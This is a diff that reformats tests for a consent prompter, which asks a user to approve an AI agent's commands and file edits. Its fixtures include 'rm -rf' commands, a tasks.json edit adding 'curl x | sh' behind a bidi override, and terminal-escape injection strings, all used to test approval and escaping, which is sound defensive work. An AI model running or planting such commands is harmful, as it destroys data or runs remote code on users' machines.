@@ -3,19 +3,51 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { ActionContext } from '../src/connection';
-import { ALLOW_ONCE, ALWAYS, ConsentPrompter, ConsentUi, parseApproval, question, Question, REJECT, ruleRows, SHOW, SHOW_COMMAND, waitingLabel } from '../src/consent';
+import {
+  ALLOW_ONCE,
+  ALWAYS,
+  ConsentPrompter,
+  ConsentUi,
+  parseApproval,
+  question,
+  Question,
+  REJECT,
+  ruleRows,
+  SHOW,
+  SHOW_COMMAND,
+  waitingLabel,
+} from '../src/consent';
 import { JsonObject } from '../src/protocol';
 
-const ROW = { id: 'c3', agent: 'claude', kind: 'run', what: 'rm -rf build', reason: 'rm is a risky command', security_risk: 'high', always: ['run: rm *'] };
+const ROW = {
+  id: 'c3',
+  agent: 'claude',
+  kind: 'run',
+  what: 'rm -rf build',
+  reason: 'rm is a risky command',
+  security_risk: 'high',
+  always: ['run: rm *'],
+};
 
 function ctx(sent: JsonObject[]): ActionContext {
   return { backend: 'b', instanceId: 'i', workspace: '/w', roots: ['/w'], sendFrame: (f) => sent.push(f) };
 }
 
-type FakeUi = ConsentUi & { asked: Question[]; infos: string[]; rules: string[][]; counts: number[]; dismissed: string[]; shown: [string, string | undefined][] };
+type FakeUi = ConsentUi & {
+  asked: Question[];
+  infos: string[];
+  rules: string[][];
+  counts: number[];
+  dismissed: string[];
+  shown: [string, string | undefined][];
+};
 
 /** A scripted user: `answers` for the question box, `saves` for the rules list, `reasons` for the reason box. */
-function ui(answers: (string | undefined)[], reasons: (string | undefined)[] = [], saves: (boolean | undefined)[] = []): FakeUi {
+function ui(
+  answers: (string | undefined)[],
+  reasons: (string | undefined)[] = [],
+  saves: (boolean | undefined)[] = [],
+): FakeUi {
   const u: FakeUi = {
     asked: [],
     infos: [],
@@ -57,7 +89,14 @@ test('the question: who, what, the risk and why, with short fixed choices', asyn
 
 test('a multi-part command keeps the same short labels; "Always…" lists every rule whole before saving (issue 42)', async () => {
   const sent: JsonObject[] = [];
-  const rules = ['run: python3 *', 'run: echo *', 'run: git status *', 'run: git diff *', 'run: ls', `run: ${'x'.repeat(150)} *`];
+  const rules = [
+    'run: python3 *',
+    'run: echo *',
+    'run: git status *',
+    'run: git diff *',
+    'run: ls',
+    `run: ${'x'.repeat(150)} *`,
+  ];
   const command = `sh -c "python3 -c 'print(1)' && echo x && git status --short && git diff --stat && ls"`;
   const u = ui([ALWAYS, ALWAYS], [], [false, true]);
   await new ConsentPrompter(u).request({ ...ROW, always: rules, command, what: command }, ctx(sent));
@@ -120,7 +159,8 @@ test('decided elsewhere while shown: its UI is dismissed, the count drops, a lat
   await shown;
   assert.deepEqual(sent, []);
   assert.equal(u.infos.length, 1);
-  for (const bad of [null, 3, {}, { ...ROW, id: 'p1' }, { ...ROW, id: 'c1\n' }]) await new ConsentPrompter(ui([ALLOW_ONCE])).request(bad, ctx(sent));
+  for (const bad of [null, 3, {}, { ...ROW, id: 'p1' }, { ...ROW, id: 'c1\n' }])
+    await new ConsentPrompter(ui([ALLOW_ONCE])).request(bad, ctx(sent));
   assert.deepEqual(sent, []);
 });
 
@@ -135,27 +175,40 @@ test('one question at a time: the next is shown when the first is answered, the 
   const p = new ConsentPrompter(u);
   const first = p.request(ROW, ctx(sent));
   await p.request({ ...ROW, id: 'c5', what: 'make' }, ctx(sent)); // queued: returns at once
-  assert.deepEqual(u.asked.map((q) => q.id), ['c3']);
+  assert.deepEqual(
+    u.asked.map((q) => q.id),
+    ['c3'],
+  );
   assert.deepEqual(u.counts, [1, 2]);
   releases[0](ALLOW_ONCE);
   await new Promise((r) => setImmediate(r));
-  assert.deepEqual(u.asked.map((q) => q.id), ['c3', 'c5']);
+  assert.deepEqual(
+    u.asked.map((q) => q.id),
+    ['c3', 'c5'],
+  );
   releases[1](ALLOW_ONCE);
   await first;
-  assert.deepEqual(sent.map((f) => f.id), ['c3', 'c5']);
+  assert.deepEqual(
+    sent.map((f) => f.id),
+    ['c3', 'c5'],
+  );
   assert.deepEqual(u.counts, [1, 2, 1, 0]);
 });
 
 test('agent text cannot drive the question (controls and bidi are escaped)', () => {
   const row = parseApproval({ ...ROW, what: 'echo \u202e\x1b[2J', agent: 'a\nb' })!;
   const q = question(row, true);
-  for (const text of [q.title, q.what]) assert.ok(!text.includes('\u202e') && !text.includes('\x1b') && !text.includes('\n'), text);
+  for (const text of [q.title, q.what])
+    assert.ok(!text.includes('\u202e') && !text.includes('\x1b') && !text.includes('\n'), text);
 });
 
 test('a change asked outside review mode can be shown, then the question comes back', async () => {
   const sent: JsonObject[] = [];
   const u = ui([SHOW, ALLOW_ONCE]);
-  await new ConsentPrompter(u).request({ ...ROW, kind: 'edit', what: 'edit str_replace /w/.vscode/tasks.json', detail: '-make\n+curl x | sh\u202e\n' }, ctx(sent));
+  await new ConsentPrompter(u).request(
+    { ...ROW, kind: 'edit', what: 'edit str_replace /w/.vscode/tasks.json', detail: '-make\n+curl x | sh\u202e\n' },
+    ctx(sent),
+  );
   assert.deepEqual(labels(u.asked[0]), [ALLOW_ONCE, ALWAYS, REJECT, SHOW]);
   assert.deepEqual(u.shown, [['-make\n+curl x | sh\n', 'diff']]);
   assert.equal(u.asked.length, 2);
@@ -188,7 +241,10 @@ test('a short one-line command fits the question: nothing is opened until asked'
 test('a file change reads workspace-relative and says "edit", never str_replace; a command is never rewritten', () => {
   const edit = parseApproval({ ...ROW, kind: 'edit', what: 'edit str_replace /w/src/a.py' })!;
   assert.equal(question(edit, true, '/w').what, 'edit src/a.py');
-  assert.equal(question(parseApproval({ ...ROW, kind: 'write', what: 'write /elsewhere/x' })!, true, '/w').what, 'write /elsewhere/x');
+  assert.equal(
+    question(parseApproval({ ...ROW, kind: 'write', what: 'write /elsewhere/x' })!, true, '/w').what,
+    'write /elsewhere/x',
+  );
   const run = parseApproval({ ...ROW, what: 'rm -rf /w/build', command: 'rm -rf /w/build' })!;
   assert.equal(question(run, true, '/w').what, 'rm -rf /w/build');
 });
